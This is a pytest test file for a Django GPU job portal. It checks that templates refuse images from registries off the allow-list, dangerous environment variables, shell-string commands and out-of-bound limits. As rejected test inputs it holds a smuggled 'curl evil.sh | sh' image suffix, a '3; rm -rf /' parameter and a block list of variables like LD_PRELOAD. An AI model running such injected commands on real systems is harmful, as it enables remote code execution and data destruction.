"""What a template may hold (issue 8, finding 16): images only from registries on the allow-list
platform admins keep, no environment variable that changes what code runs, which certificates are
trusted, where traffic goes or which GPUs are seen, command and args as argument lists, and every
limit within a real node's bounds. Each refused with a sentence, by the service, the API and the
model's validators alike."""

from __future__ import annotations

from typing import Any

import pytest
from django.core.exceptions import ValidationError

from jobs import kinds, policy, services, tasks
from jobs.models import ImageRegistry, Workload, WorkloadKind, WorkloadTemplateVersion
from portal.errors import DomainError
from portal.models import AuditEvent
from tests.helpers import api, launch

pytestmark = pytest.mark.django_db


def create(user: Any, flavor: Any, kind: str = WorkloadKind.TRAINING, **fields: Any) -> Any:
    return services.template_create(user=user, slug="t", name="T", kind=kind, flavors=[flavor],
                                    **{"image": "registry.example.com/ml/train:1", **fields})


@pytest.fixture
def only_the_admins_list(settings):
    """No registry from the deployment: the allow-list is what platform admins keep."""
    settings.PORTAL_IMAGE_REGISTRIES = []


# --- Images -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("image", "allowed"), [
    ("ghcr.io/acme/train:1", True),
    ("ghcr.io/acme/vision/train@sha256:" + "a" * 64, True),
    ("GHCR.IO/acme/train:1", True),  # hosts are case-insensitive
    ("ghcr.io/acme", True),
    ("ghcr.io/acme-evil/train:1", False),  # whole path segments only
    ("ghcr.io/other/train:1", False),
    ("ghcr.io.evil.com/acme/train:1", False),
    ("evil.com/ghcr.io/acme/train:1", False),
    ("pytorch/pytorch:2.5", True),  # Docker Hub, as a runtime reads it: docker.io/pytorch/pytorch
    ("docker.io/pytorch/pytorch:2.5", True),
    ("index.docker.io/pytorch/pytorch", True),
    ("pytorch:2.5", False),  # docker.io/library/pytorch, not docker.io/pytorch/...
    ("python:3.12", True),
    ("localhost:5000/pytorch/pytorch:1", False),
    ("ghcr.io/acme/train:1; curl evil.sh | sh", False),
    ("", False),
])
def test_an_image_is_allowed_only_under_an_entry_of_the_allow_list(image, allowed):
    entries = ["ghcr.io/acme", "docker.io/pytorch", "docker.io/library/python"]
    assert policy.image_allowed(image, entries) is allowed


@pytest.mark.parametrize(("written", "entry"), [
    ("nvcr.io/nvidia", "nvcr.io/nvidia"), ("NVCR.io/nvidia/", "nvcr.io/nvidia"), ("index.docker.io/pytorch", "docker.io/pytorch"),
    ("registry.local:5000", "registry.local:5000"), ("pytorch", None), ("nvcr.io/NVIDIA", None), ("https://nvcr.io", None),
    ("", None),
])
def test_an_allow_list_entry_is_a_host_with_an_optional_path_in_one_written_form(written, entry):
    assert policy.registry_entry(written) == entry


def test_a_template_image_from_a_registry_not_allowed_is_refused_naming_the_allowed_ones(admin_user, flavor,
                                                                                         only_the_admins_list):
    services.image_registry_add(user=admin_user, prefix="nvcr.io/nvidia")

    with pytest.raises(DomainError) as refused:
        create(admin_user, flavor, image="evil.example.com/miner:latest")

    assert refused.value.message == ("The image evil.example.com/miner:latest is not from an allowed registry; "
                                     "allowed: nvcr.io/nvidia.")
    assert refused.value.field == "image"
    assert create(admin_user, flavor, image="nvcr.io/nvidia/pytorch:24.10-py3").current.image.startswith("nvcr.io/")


def test_with_no_registry_allowed_yet_every_image_is_refused_and_the_sentence_says_who_adds_them(admin_user, flavor,
                                                                                                  only_the_admins_list):
    with pytest.raises(DomainError, match=r"allowed: none yet \(a platform admin adds them\)"):
        create(admin_user, flavor, image="pytorch/pytorch:2.5")


def test_a_revision_to_an_image_not_allowed_is_refused_through_the_api(admin_user, lead, ready_team, flavor):
    template = create(lead, flavor, owner_team=ready_team)

    response = api(lead).patch(f"/api/templates/{template.slug}/", {"image": "evil.example.com/x:1"}, format="json")

    assert response.status_code == 400
    assert response.json()["message"].startswith("The image evil.example.com/x:1 is not from an allowed registry")
    assert template.versions.count() == 1


def test_a_text_that_is_no_image_reference_is_refused(admin_user, flavor):
    with pytest.raises(DomainError, match="is not a container image reference"):
        create(admin_user, flavor, image="registry.example.com/x:1 --privileged")


def test_launching_a_template_whose_image_left_the_allow_list_is_refused_with_a_sentence(
        ready_team, member, admin_user, flavor, only_the_admins_list):
    registry = services.image_registry_add(user=admin_user, prefix="registry.example.com/ml")
    template = create(admin_user, flavor)
    services.image_registry_remove(user=admin_user, registry=registry)

    with pytest.raises(DomainError) as refused:
        launch(member, ready_team, template, flavor)
    assert refused.value.message == ("T uses the image registry.example.com/ml/train:1, which is not from an allowed "
                                     "registry any more; ask its owner to publish a version with an allowed image.")
    response = api(member).post("/api/workloads/", {"team": "vision", "template": "t", "flavor": flavor.slug}, format="json")
    assert response.status_code == 400 and response.json()["message"] == refused.value.message
    assert not Workload.objects.exists()


def test_a_submission_sent_again_after_its_image_left_the_allow_list_fails_with_the_reason(
        ready_team, member, admin_user, flavor, only_the_admins_list, monkeypatch):
    registry = services.image_registry_add(user=admin_user, prefix="registry.example.com")
    template = create(admin_user, flavor)
    monkeypatch.setattr(tasks.workload_submit, "apply_async", lambda args, **kwargs: None)
    workload = launch(member, ready_team, template, flavor)
    services.image_registry_remove(user=admin_user, registry=registry)

    assert tasks.workload_submit(workload.pk) == "failed"
    workload.refresh_from_db()
    assert workload.reason.startswith("Not created in the cluster: T uses the image registry.example.com/ml/train:1")


def test_platform_admins_keep_the_allow_list_through_the_api_and_everyone_may_read_it(admin_user, member, lead,
                                                                                      only_the_admins_list):
    assert api(lead).post("/api/image-registries/", {"prefix": "ghcr.io/lena"}, format="json").status_code == 403
    assert api(member).post("/api/image-registries/", {"prefix": "ghcr.io/alice"}, format="json").status_code == 403

    added = api(admin_user).post("/api/image-registries/", {"prefix": "NVCR.io/nvidia/", "note": "NGC"}, format="json")
    assert added.status_code == 201
    assert (added.json()["prefix"], added.json()["created_by"]) == ("nvcr.io/nvidia", "root")
    assert [r["prefix"] for r in api(member).get("/api/image-registries/").json()["results"]] == ["nvcr.io/nvidia"]

    again = api(admin_user).post("/api/image-registries/", {"prefix": "nvcr.io/nvidia"}, format="json")
    assert again.status_code == 400 and again.json()["message"] == "nvcr.io/nvidia is on the allow-list already."
    bad = api(admin_user).post("/api/image-registries/", {"prefix": "not a registry"}, format="json")
    assert bad.status_code == 400 and "is not a registry" in bad.json()["message"]

    entry = added.json()["id"]
    assert api(lead).delete(f"/api/image-registries/{entry}/").status_code == 403
    assert api(admin_user).delete(f"/api/image-registries/{entry}/").status_code == 204
    assert not ImageRegistry.objects.exists()
    audit = AuditEvent.objects.filter(action__startswith="image_registry.").order_by("id")
    assert list(audit.values_list("message", flat=True)) == [
        "root allowed images from nvcr.io/nvidia", "root no longer allows images from nvcr.io/nvidia"]


def test_the_deployments_registries_are_allowed_as_well(admin_user, flavor, settings):
    settings.PORTAL_IMAGE_REGISTRIES = ["quay.io/jupyter", "not a registry"]
    assert create(admin_user, flavor, image="quay.io/jupyter/base-notebook:1").current.image
    with pytest.raises(DomainError, match="allowed: quay.io/jupyter."):
        create(admin_user, flavor, image="quay.io/evil/x:1")


# --- Environment --------------------------------------------------------------------------------


REFUSED_ENV = ["LD_PRELOAD", "ld_preload", "LD_LIBRARY_PATH", "LD_AUDIT", "HTTPS_PROXY", "http_proxy", "ALL_PROXY",
               "NO_PROXY", "PYTHONPATH", "PYTHONSTARTUP", "NODE_OPTIONS", "JAVA_TOOL_OPTIONS", "BASH_ENV",
               "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NVIDIA_VISIBLE_DEVICES", "JUPYTER_TOKEN", "MASTER_ADDR",
               "GPU_PORTAL_TEAM"]


@pytest.mark.parametrize("name", REFUSED_ENV)
def test_an_environment_variable_that_changes_what_runs_or_where_traffic_goes_is_refused(admin_user, flavor, name):
    with pytest.raises(DomainError) as refused:
        create(admin_user, flavor, env={"OK": "1", name: "/tmp/x"})
    assert refused.value.message.startswith(f"A template may not set {name}: it would change what code")
    assert refused.value.field == "env"


@pytest.mark.parametrize("name", ["1ST", "A-B", "A B", "", "X" * 129])
def test_an_environment_variable_name_that_is_not_a_name_is_refused(admin_user, flavor, name):
    with pytest.raises(DomainError, match="is not an environment variable name"):
        create(admin_user, flavor, env={name: "1"})


def test_ordinary_environment_variables_are_kept(admin_user, flavor):
    env = {"PYTHONUNBUFFERED": "1", "OMP_NUM_THREADS": "8", "HF_HOME": "/data/hf", "CUDA_VISIBLE_DEVICES": "0"}
    assert create(admin_user, flavor, env=env).current.env == env


def test_a_revision_through_the_api_may_not_add_ld_preload(admin_user, flavor):
    create(admin_user, flavor)
    response = api(admin_user).patch("/api/templates/t/", {"env": {"LD_PRELOAD": "/x.so"}}, format="json")
    assert response.status_code == 400
    assert response.json()["message"].startswith("A template may not set LD_PRELOAD")


# --- Command and args ----------------------------------------------------------------------------


@pytest.mark.parametrize(("field", "value"), [
    ("command", "python train.py"), ("command", ["python", 3]), ("args", "--epochs 3"), ("args", [["--epochs"]]),
])
def test_command_and_args_must_be_argument_lists(admin_user, flavor, field, value):
    with pytest.raises(DomainError, match=f"The {field} must be a list of arguments"):
        create(admin_user, flavor, **{field: value})


def test_the_pod_runs_the_templates_argv_as_it_is_with_no_shell_in_front(ready_team, member, admin_user, flavor):
    template = create(admin_user, flavor, command=["python", "train.py"], args=["--epochs", "{epochs}"],
                      parameters=[{"name": "epochs", "type": "int", "default": 1, "min": 1, "max": 10}])
    with pytest.raises(DomainError, match="epochs must be a whole number"):
        launch(member, ready_team, template, flavor, parameters={"epochs": "3; rm -rf /"})
    workload = launch(member, ready_team, template, flavor, parameters={"epochs": 3})

    (job,) = kinds.workload_objects(spec=services.workload_spec(workload))
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert (container["command"], container["args"]) == (["python", "train.py"], ["--epochs", "3"])


# --- Limits -------------------------------------------------------------------------------------


ABOVE = [("default_units", 129), ("max_units", 129), ("default_cpu", 257), ("max_cpu", 257),
         ("default_memory_gib", 4097), ("max_memory_gib", 4097), ("max_runtime_seconds", 30 * 86400 + 1),
         ("storage_gib", 4097), ("idle_minutes", 7 * 1440 + 1), ("port", 65536)]


@pytest.mark.parametrize(("field", "value"), ABOVE)
def test_every_template_limit_above_its_bound_is_refused_by_the_service(admin_user, flavor, field, value):
    low, high = policy.LIMITS[field]
    with pytest.raises(DomainError) as refused:
        create(admin_user, flavor, **{field: value})
    assert refused.value.message.endswith(f"must be a whole number from {low:,} to {high:,}, not {value:,}.")
    assert refused.value.field == field


@pytest.mark.parametrize(("field", "value"), ABOVE)
def test_every_template_limit_above_its_bound_is_a_400_from_the_api(admin_user, flavor, field, value):
    body = {"slug": "t", "name": "T", "kind": "training", "flavors": [flavor.slug], "image": "x/y:1", field: value}
    response = api(admin_user).post("/api/templates/", body, format="json")
    assert response.status_code == 400
    assert response.json()["message"].startswith(f"{field}: The ")


@pytest.mark.parametrize(("field", "value"), ABOVE)
def test_every_template_limit_above_its_bound_fails_the_models_validation(admin_user, flavor, field, value):
    version = create(admin_user, flavor).current
    setattr(version, field, value)
    with pytest.raises(ValidationError) as invalid:
        version.full_clean()
    assert list(invalid.value.message_dict) == [field]


def test_a_run_time_of_a_billion_seconds_is_refused_and_thirty_days_is_the_most(admin_user, flavor):
    with pytest.raises(DomainError, match="The maximum run time"):
        create(admin_user, flavor, max_runtime_seconds=10**9)
    assert create(admin_user, flavor, max_runtime_seconds=30 * 86400).current.max_runtime_seconds == 2_592_000


def test_a_revision_is_held_to_the_same_bounds(admin_user, flavor):
    template = create(admin_user, flavor)
    with pytest.raises(DomainError, match="The maximum CPU cores must be a whole number from 1 to 256"):
        services.template_revise(user=admin_user, template=template, max_cpu=10_000)
    assert template.versions.count() == 1


@pytest.mark.parametrize(("fields", "sentence"), [
    ({"default_cpu": 8, "max_cpu": 4}, "The default CPU cores cannot exceed the maximum."),
    ({"default_memory_gib": 64, "max_memory_gib": 32}, "The default memory cannot exceed the maximum."),
    ({"default_units": 4, "max_units": 2}, "The default GPU units cannot exceed the maximum."),
    ({"max_units": 0}, "The maximum GPU units must be a whole number from 1 to 128, not 0."),
    ({"max_runtime_seconds": True}, "The maximum run time (seconds) must be a whole number from 60 to 2,592,000, not “True”."),
])
def test_defaults_above_their_maximum_and_limits_below_their_floor_are_refused(admin_user, flavor, fields, sentence):
    with pytest.raises(DomainError) as refused:
        create(admin_user, flavor, **fields)
    assert refused.value.message == sentence


def test_a_pod_count_above_the_most_a_template_may_offer_is_refused(admin_user, flavor):
    workers = {"name": "workers", "type": "int", "default": 2, "min": 1, "max": policy.MAX_POD_COUNT + 1}
    with pytest.raises(DomainError, match=f"workers may be at most {policy.MAX_POD_COUNT}: it counts pods."):
        create(admin_user, flavor, kind=WorkloadKind.DISTRIBUTED, parameters=[workers])


def test_existing_versions_keep_working_within_the_bounds(admin_user, flavor):
    version = create(admin_user, flavor).current
    version.full_clean()  # the model defaults are within every bound
    assert WorkloadTemplateVersion.objects.count() == 1


def test_the_django_admin_adds_and_removes_entries_through_the_services(admin_user, lead, as_user, only_the_admins_list):
    client = as_user(admin_user)
    response = client.post("/admin/jobs/imageregistry/add/", {"prefix": "NVCR.io/nvidia", "note": "NGC"})
    assert response.status_code == 302, response.content.decode()[:2000]
    registry = ImageRegistry.objects.get()
    assert (registry.prefix, registry.created_by) == ("nvcr.io/nvidia", admin_user)
    assert as_user(lead).get("/admin/jobs/imageregistry/").status_code in (302, 403)  # not for leads

    client.post(f"/admin/jobs/imageregistry/{registry.pk}/delete/", {"post": "yes"})
    assert not ImageRegistry.objects.exists()
    assert AuditEvent.objects.filter(action="image_registry.removed").count() == 1

